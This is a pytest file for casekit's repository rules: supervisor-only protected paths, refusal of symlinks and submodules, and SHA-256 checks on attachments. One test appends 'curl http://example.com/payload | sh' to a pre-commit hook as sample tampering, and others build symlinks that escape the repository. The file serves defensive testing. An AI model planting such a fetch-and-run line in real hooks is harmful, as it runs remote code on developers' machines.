"""The files around the cases: hooks, templates, CI files and the allowed-signers file need a
supervisor; no symbolic link or submodule anywhere; attachments are only added, each by the
attach entry that records it, with its SHA-256.

The rules are read from real commits in real repositories (`casekit.vcs.treediff` lists what
a commit changes), and the edges that read or write those files (validate, attach, script,
hooks install) are run through the real CLI.
"""

from __future__ import annotations

import hashlib
import os
import subprocess
from pathlib import Path

import pytest

from casekit.core.tree_rules import (
    ALLOWED_SIGNERS_FILE,
    TreeChange,
    attached_files,
    attachment_digest,
    is_protected,
    lfs_pointer_oid,
    merge_changes,
    tree_findings,
)
from casekit.vcs.treediff import blob_digests, commit_changes, tracked_links, tree_changes
from conftest import CLI, read_case
from test_returns import open_return, photo

SECRET = "secret-outside-the-repository\n"


def commit_by_hand(repo: CLI, message: str, *paths: str) -> str:
    repo.git("add", "-A", "--", *paths)
    repo.git("commit", "-q", "--no-verify", "-m", message)
    return repo.head()


def findings_of(repo: CLI, commit: str = "HEAD", *, supervisor: bool = False) -> list[tuple[str, str, str]]:
    """(rule, path, message) of each tree finding for one commit, its `attached` and
    `blob_sha256` computed from the commit as the pre-receive check will."""
    commit = repo.git("rev-parse", commit).strip()
    parent = repo.git("rev-parse", f"{commit}^").strip()
    changes = commit_changes(repo.root, commit, parent)
    attached: dict[str, str] = {}
    for change in changes:
        if change.path.startswith("cases/") and change.path.endswith(".yaml") and not change.deleted:
            old = show(repo, f"{parent}:{change.path}") if not change.added else None
            attached.update(attached_files(old, show(repo, f"{commit}:{change.path}")))
    blobs = [c.new_blob for c in changes if c.path.startswith("attachments/") and c.added]
    found = tree_findings(
        changes, supervisor=supervisor, attached=attached, blob_sha256=blob_digests(repo.root, blobs)
    )
    return [(f.rule, f.path, f.message) for f in found]


def show(repo: CLI, name: str) -> dict:  # type: ignore[type-arg]
    from casekit.codec.yamlio import load_fast

    data = load_fast(
        subprocess.run(["git", "show", name], cwd=repo.root, capture_output=True, check=True).stdout
    )
    assert isinstance(data, dict)
    return data


def outside_file(repo: CLI, text: str = SECRET) -> Path:
    path = repo.root.parent / "outside.txt"
    path.write_text(text, encoding="utf-8")
    return path


# --- protected paths --------------------------------------------------------------------


def test_a_hook_changed_by_hand_needs_a_supervisor(repo: CLI) -> None:
    hook = repo.root / "hooks" / "pre-commit"
    hook.write_text(hook.read_text(encoding="utf-8") + "curl http://example.com/payload | sh\n")
    commit_by_hand(repo, "faster hook", "hooks")
    assert findings_of(repo) == [
        (
            "protected-path",
            "hooks/pre-commit",
            "hooks/pre-commit is changed by a commit that is not a supervisor's; hooks, templates, "
            "CI files, .gitattributes and the allowed-signers file are changed only by a supervisor",
        )
    ]
    assert findings_of(repo, supervisor=True) == []


def test_templates_ci_files_gitattributes_and_signers_need_a_supervisor(repo: CLI) -> None:
    for name in (
        "templates/scripts/zh/complaint-acknowledge.j2",
        ".github/workflows/deploy.yml",
        ".gitlab-ci.yml",
        "Jenkinsfile",
        "cases/.gitattributes",
        ALLOWED_SIGNERS_FILE,
    ):
        path = repo.root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("x\n", encoding="utf-8")
    (repo.root / ".gitattributes").unlink()
    commit_by_hand(repo, "several files", ".")
    found = findings_of(repo)
    assert {path for rule, path, _ in found if rule == "protected-path"} == {
        "templates/scripts/zh/complaint-acknowledge.j2",
        ".github/workflows/deploy.yml",
        ".gitlab-ci.yml",
        "Jenkinsfile",
        "cases/.gitattributes",
        ".gitattributes",
        ALLOWED_SIGNERS_FILE,
    }
    assert ".gitattributes is deleted by a commit that is not a supervisor's" in "\n".join(
        m for *_, m in found
    )
    assert ".gitlab-ci.yml is changed by a commit" in "\n".join(m for *_, m in found)
    assert "Jenkinsfile is added by a commit" in "\n".join(m for *_, m in found)
    assert findings_of(repo, supervisor=True) == []


def test_protected_paths_as_a_case_insensitive_file_system_sees_them() -> None:
    assert is_protected("Hooks/pre-commit") and is_protected("TEMPLATES/x.j2") and is_protected("hooks")
    assert is_protected("a/b/.GitAttributes") and is_protected(".casekit/allowed_signers")
    assert not is_protected("casekit.yaml")  # the config-change rule's
    assert not is_protected("cases/complaint/2026/11/C-1.yaml") and not is_protected("docs/hooks/x.md")
    assert not is_protected("hooksmith/x") and not is_protected("attachments/R-1/a.jpg")


# --- symbolic links and submodules ------------------------------------------------------


def test_a_committed_symlink_is_named_wherever_it_is(repo: CLI) -> None:
    target = outside_file(repo)
    (repo.root / "notes").mkdir()
    os.symlink(target, repo.root / "notes" / "link.txt")
    commit_by_hand(repo, "a link", "notes")
    assert findings_of(repo, supervisor=True) == [
        (
            "symlink",
            "notes/link.txt",
            "notes/link.txt is added as a symbolic link; a case repository holds no symbolic links "
            "(one could make hooks, templates or attachments read or write files outside the "
            "repository): commit the file itself instead",
        )
    ]
    # deleting the link is the way out: no finding
    (repo.root / "notes" / "link.txt").unlink()
    commit_by_hand(repo, "no link", "notes")
    assert findings_of(repo) == []


def test_a_template_committed_as_a_symlink_breaks_two_rules(repo: CLI) -> None:
    folder = repo.root / "templates" / "scripts" / "zh"
    folder.mkdir(parents=True)
    os.symlink(outside_file(repo), folder / "complaint-acknowledge.j2")
    commit_by_hand(repo, "template", "templates")
    rules = sorted(rule for rule, *_ in findings_of(repo))
    assert rules == ["protected-path", "symlink"]
    assert [rule for rule, *_ in findings_of(repo, supervisor=True)] == ["symlink"]


def test_a_submodule_is_named(repo: CLI) -> None:
    head = repo.head()
    repo.git("update-index", "--add", "--cacheinfo", f"160000,{head},vendor/lib")
    repo.git("commit", "-q", "--no-verify", "-m", "a submodule")
    found = findings_of(repo, supervisor=True)
    assert [(rule, path) for rule, path, _ in found] == [("submodule", "vendor/lib")]
    assert "vendor/lib is added as a submodule; a case repository holds no submodules" in found[0][2]


# --- attachments ------------------------------------------------------------------------


def test_casekit_attach_makes_a_commit_the_attachment_rule_accepts(repo: CLI) -> None:
    case_id = open_return(repo, "return_type=exchange", "reason=quality")
    repo.ok("attach", case_id, photo(repo, "a.jpg", b"\xff\xd8 one"), photo(repo, "b.png", b"\x89PNG two"))
    assert findings_of(repo) == []
    case = read_case(repo.case_path(case_id))
    parent_case = show(repo, f"HEAD^:{repo.case_path(case_id).relative_to(repo.root).as_posix()}")
    assert attached_files(parent_case, case) == {
        f"attachments/{case_id}/tb_wang-01.jpg": hashlib.sha256(b"\xff\xd8 one").hexdigest(),
        f"attachments/{case_id}/tb_wang-02.png": hashlib.sha256(b"\x89PNG two").hexdigest(),
    }
    assert attached_files(case, case) == {}  # entries already there are not this change's


def test_an_attachment_added_by_hand_changed_or_deleted_is_refused(repo: CLI) -> None:
    case_id = open_return(repo, "return_type=return", "reason=quality")
    repo.ok("attach", case_id, photo(repo))
    folder = repo.root / "attachments" / case_id
    (folder / "extra.jpg").write_bytes(b"not listed")
    commit_by_hand(repo, "one more photo", "attachments")
    assert findings_of(repo, supervisor=True) == [
        (
            "attachments",
            f"attachments/{case_id}/extra.jpg",
            f"attachments/{case_id}/extra.jpg is added under attachments/ but no attach entry of this "
            "commit lists it; attach evidence with `casekit attach`, which records the file on its case",
        )
    ]
    (folder / "tb_wang-01.jpg").write_bytes(b"a nicer photo")
    commit_by_hand(repo, "replace the photo", "attachments")
    assert findings_of(repo, supervisor=True) == [
        (
            "attachments",
            f"attachments/{case_id}/tb_wang-01.jpg",
            f"attachments/{case_id}/tb_wang-01.jpg is changed; attachments are evidence and are never "
            "changed: restore the file, and attach a new one with `casekit attach`",
        )
    ]
    (folder / "tb_wang-01.jpg").unlink()
    commit_by_hand(repo, "drop the photo", "attachments")
    assert [(r, m.split(";")[0]) for r, _, m in findings_of(repo, supervisor=True)] == [
        ("attachments", f"attachments/{case_id}/tb_wang-01.jpg is deleted")
    ]


def test_an_attach_commit_whose_file_does_not_match_its_hash_is_refused(repo: CLI) -> None:
    case_id = open_return(repo, "return_type=return", "reason=quality")
    repo.ok("attach", case_id, photo(repo, "a.jpg", b"the real photo"))
    name = f"attachments/{case_id}/tb_wang-01.jpg"
    (repo.root / name).write_bytes(b"another photo")
    repo.git("commit", "-q", "--no-verify", "--amend", "--no-edit", "-a")
    found = findings_of(repo)
    assert [(rule, path) for rule, path, _ in found] == [("attachments", name)]
    recorded = hashlib.sha256(b"the real photo").hexdigest()
    actual = hashlib.sha256(b"another photo").hexdigest()
    assert found[0][2] == (
        f"{name} does not match the SHA-256 its case records (recorded {recorded[:12]}…, "
        f"the file's {actual[:12]}…); attach the file again with `casekit attach`"
    )
    # the attach entry lists a file the commit leaves out
    repo.git("rm", "-q", "--cached", name)
    repo.git("commit", "-q", "--no-verify", "--amend", "--no-edit")
    found = findings_of(repo)
    assert [(rule, path) for rule, path, _ in found] == [("attachments", name)]
    assert "is listed by an attach entry of this commit, but the commit does not add the file" in found[0][2]


def test_git_lfs_pointers_stand_for_the_file_they_name() -> None:
    real = b"\x00\x00\x00\x18ftypmp42" * 100
    oid = hashlib.sha256(real).hexdigest()
    pointer = f"version https://git-lfs.github.com/spec/v1\noid sha256:{oid}\nsize {len(real)}\n".encode()
    assert lfs_pointer_oid(pointer) == oid and attachment_digest(pointer) == oid
    assert attachment_digest(real) == oid
    for broken in (
        pointer.replace(b"sha256:", b"sha1:"),
        pointer.replace(b"size", b"length"),
        pointer.replace(b"git-lfs.github.com", b"example.com"),
        pointer + b"x" * 1024,
        b"version https://git-lfs.github.com/spec/v1\n",
    ):
        assert lfs_pointer_oid(broken) is None
        assert attachment_digest(broken) == hashlib.sha256(broken).hexdigest()


# --- listing changes ----------------------------------------------------------------------


def test_tree_changes_lists_many_commits_in_one_git_process(repo: CLI) -> None:
    root_commit = repo.git("rev-list", "--max-parents=0", "HEAD").strip()
    base = repo.head()
    repo.git("commit", "-q", "--no-verify", "--allow-empty", "-m", "nothing")
    empty = repo.head()
    repo.git("checkout", "-q", "-b", "side", base)
    (repo.root / "side.txt").write_text("side\n")
    side = commit_by_hand(repo, "side", "side.txt")
    repo.git("checkout", "-q", "-")
    (repo.root / "main.txt").write_text("main\n")
    (repo.root / "sp ace\nnewline.txt").write_text("odd name\n")
    main = commit_by_hand(repo, "main", ".")
    repo.git("merge", "-q", "--no-verify", "--no-edit", "side")
    merge = repo.head()
    pairs = [(root_commit, None), (empty, base), (merge, main), (merge, side), (main, empty)]
    first_root, nothing, against_main, against_side, main_changes = tree_changes(repo.root, pairs)
    assert "casekit.yaml" in {c.path for c in first_root} and all(c.added for c in first_root)
    assert nothing == []
    assert [c.path for c in against_main] == ["side.txt"]
    assert sorted(c.path for c in against_side) == ["main.txt", "sp ace\nnewline.txt"]
    assert sorted(c.path for c in main_changes) == ["main.txt", "sp ace\nnewline.txt"]
    change = main_changes[0]
    assert (change.old_mode, change.new_mode, change.old_blob) == ("000000", "100644", "0" * 40)
    assert change.new_blob == repo.git("rev-parse", f"{main}:main.txt").strip()
    assert merge_changes([against_main, against_side]) == []  # the merge brings nothing of its own
    with pytest.raises(ValueError):
        tree_changes(repo.root, [("HEAD", None)])


def test_merge_changes_keeps_what_a_merge_changes_against_every_parent() -> None:
    def added(path: str) -> TreeChange:
        return TreeChange(path, "000000", "100644", "0" * 40, "1" * 40)

    evil = added("hooks/pre-commit")
    assert merge_changes([[added("a"), evil], [added("b"), evil]]) == [evil]
    assert merge_changes([[evil]]) == [evil]
    assert merge_changes([]) == []


# --- validate -------------------------------------------------------------------------------


def test_validate_compares_every_attachment_with_its_recorded_hash(repo: CLI) -> None:
    case_id = open_return(repo, "return_type=return", "reason=quality")
    repo.ok("attach", case_id, photo(repo, "a.jpg", b"first"), photo(repo, "b.jpg", b"second"))
    repo.ok("validate")
    folder = repo.root / "attachments" / case_id
    (folder / "tb_wang-01.jpg").write_bytes(b"edited by hand")
    (folder / "tb_wang-02.jpg").unlink()
    result = repo.run("validate", extra_env={"CASEKIT_PROGRESS": "always"})
    assert result.code == 1
    rel = repo.case_path(case_id).relative_to(repo.root).as_posix()
    lines = [line for line in result.lines if line.startswith(rel)]
    assert len(lines) == 2, result.out
    assert (
        f"{case_id}: attachments[0]: attachments/{case_id}/tb_wang-01.jpg is altered: its SHA-256 is"
        in lines[0]
    )
    assert f"the case records {hashlib.sha256(b'first').hexdigest()[:12]}…" in lines[0]
    assert f"{case_id}: attachments[1]: attachments/{case_id}/tb_wang-02.jpg is missing" in lines[1]
    assert "checking attachments: 2/2" in result.err
    # naming the case file alone checks its attachments too
    assert repo.run("validate", rel).code == 1
    subprocess.run(["git", "checkout", "-q", "--", "attachments"], cwd=repo.root, check=True)
    repo.ok("validate")


def test_validate_takes_an_lfs_pointer_on_disk_for_the_file_it_names(repo: CLI) -> None:
    case_id = open_return(repo, "return_type=return", "reason=quality")
    video = b"\x00\x00\x00\x18ftypmp42" * 200
    repo.ok("attach", case_id, photo(repo, "unboxing.mp4", video))
    path = repo.root / "attachments" / case_id / "tb_wang-01.mp4"
    oid = hashlib.sha256(video).hexdigest()
    path.write_bytes(
        f"version https://git-lfs.github.com/spec/v1\noid sha256:{oid}\nsize {len(video)}\n".encode()
    )
    repo.ok("validate")
    path.write_bytes(path.read_bytes().replace(oid[:8].encode(), b"00000000"))
    assert "is altered" in repo.run("validate").out


def test_validate_names_symbolic_links_and_linked_attachments(repo: CLI) -> None:
    case_id = open_return(repo, "return_type=return", "reason=quality")
    repo.ok("attach", case_id, photo(repo, "a.jpg", b"photo"))
    os.symlink(outside_file(repo), repo.root / "README-link.md")
    commit_by_hand(repo, "link", "README-link.md")
    attached = repo.root / "attachments" / case_id / "tb_wang-01.jpg"
    copy = repo.root.parent / "photo-copy.jpg"
    copy.write_bytes(attached.read_bytes())
    attached.unlink()
    os.symlink(copy, attached)  # the same bytes, but through a link
    assert tracked_links(repo.root) == [("120000", "README-link.md")]
    result = repo.run("validate")
    assert result.code == 1
    assert "README-link.md: is a symbolic link; a case repository holds no symbolic links" in result.out
    assert f"attachments[0]: attachments/{case_id}/tb_wang-01.jpg is a symbolic link" in result.out


def test_validate_names_a_template_that_is_a_symlink(repo: CLI) -> None:
    folder = repo.root / "templates" / "scripts" / "zh"
    folder.mkdir(parents=True)
    os.symlink(outside_file(repo), folder / "complaint-acknowledge.j2")
    result = repo.run("validate")
    assert result.code == 1
    assert SECRET.strip() not in result.out + result.err
    assert (
        "templates/scripts/zh/complaint-acknowledge.j2: is a symbolic link or lies outside templates/; "
        "casekit reads templates only from files inside"
    ) in result.out
    assert repo.run("validate", "templates").code == 1


# --- script, attach, hooks install ------------------------------------------------------


HEADER = "{#\nkind: complaint\nstates: [received]\nsummary: ours\n#}\n"


def test_script_never_reads_a_template_through_a_symlink(repo: CLI) -> None:
    case_id = repo.new("complaint", "--salutation", "先生")
    folder = repo.root / "templates" / "scripts" / "zh"
    folder.mkdir(parents=True)
    template = folder / "complaint-acknowledge.j2"
    os.symlink(outside_file(repo, HEADER + "{{ 1 }}" + SECRET), template)
    result = repo.refused("script", case_id)
    assert SECRET.strip() not in result.out + result.err
    assert "templates/scripts/zh/complaint-acknowledge.j2 is a symbolic link" in result.err
    # nor through an include of a linked file
    template.unlink()
    template.write_text(HEADER + '{% include "scripts/zh/leak.j2" %}\n', encoding="utf-8")
    os.symlink(outside_file(repo), folder / "leak.j2")
    result = repo.refused("script", case_id)
    assert SECRET.strip() not in result.out + result.err
    assert "templates/scripts/zh/leak.j2 is a symbolic link" in result.err
    (folder / "leak.j2").unlink()
    (folder / "leak.j2").write_text("本店专线。\n", encoding="utf-8")
    assert repo.ok("script", case_id).out == "本店专线。\n"


def test_script_refuses_a_templates_folder_that_is_a_symlink(repo: CLI) -> None:
    case_id = repo.new("complaint", "--salutation", "先生")
    elsewhere = repo.root.parent / "elsewhere"
    (elsewhere / "scripts" / "zh").mkdir(parents=True)
    (elsewhere / "scripts" / "zh" / "complaint-acknowledge.j2").write_text(HEADER + SECRET, encoding="utf-8")
    (repo.root / "templates").rename(repo.root.parent / "templates-kept")
    os.symlink(elsewhere, repo.root / "templates")
    result = repo.refused("script", case_id)
    assert SECRET.strip() not in result.out + result.err
    assert "templates is a symbolic link" in result.err


@pytest.mark.parametrize("linked", ["attachments", "case folder"])
def test_attach_refuses_to_write_through_a_symlink(repo: CLI, linked: str) -> None:
    case_id = open_return(repo, "return_type=return", "reason=quality")
    elsewhere = repo.root.parent / "elsewhere"
    elsewhere.mkdir()
    if linked == "attachments":
        os.symlink(elsewhere, repo.root / "attachments")
        link = "attachments"
    else:
        (repo.root / "attachments").mkdir()
        os.symlink(elsewhere, repo.root / "attachments" / case_id)
        link = f"attachments/{case_id}"
    path = repo.case_path(case_id)
    before, head = path.read_bytes(), repo.head()
    result = repo.refused("attach", case_id, photo(repo))
    assert result.err.strip().endswith(
        f"{link} is a symbolic link; casekit writes attachments only into folders inside the repository, "
        "never through a link: remove the link (`git rm` it if it is committed) and attach again"
    )
    assert list(elsewhere.rglob("*")) == []
    assert path.read_bytes() == before and repo.head() == head


def test_hooks_install_refuses_a_hook_that_is_a_symlink(repo: CLI) -> None:
    installed = repo.root / ".git" / "hooks" / "pre-commit"
    before = installed.read_bytes()
    hook = repo.root / "hooks" / "pre-commit"
    hook.unlink()
    os.symlink(outside_file(repo, "#!/bin/sh\n# casekit-hook\necho payload\n"), hook)
    result = repo.refused("hooks", "install", "--force")
    assert (
        "hooks/pre-commit is a symbolic link; casekit installs hooks only from files in the repository's "
        "hooks/ folder, never through a link"
    ) in result.err
    assert installed.read_bytes() == before
    hook.unlink()
    hooks = repo.root / "hooks"
    hooks.rename(repo.root.parent / "hooks-elsewhere")
    os.symlink(repo.root.parent / "hooks-elsewhere", hooks)
    assert "hooks is a symbolic link" in repo.refused("hooks", "install").err
    assert installed.read_bytes() == before


def test_hooks_install_replaces_an_installed_link_not_its_target(repo: CLI) -> None:
    installed = repo.root / ".git" / "hooks" / "pre-commit"
    target = outside_file(repo, "#!/bin/sh\n# casekit-hook (an old copy)\n")
    installed.unlink()
    os.symlink(target, installed)
    repo.ok("hooks", "install")
    assert not installed.is_symlink()
    assert target.read_text(encoding="utf-8") == "#!/bin/sh\n# casekit-hook (an old copy)\n"
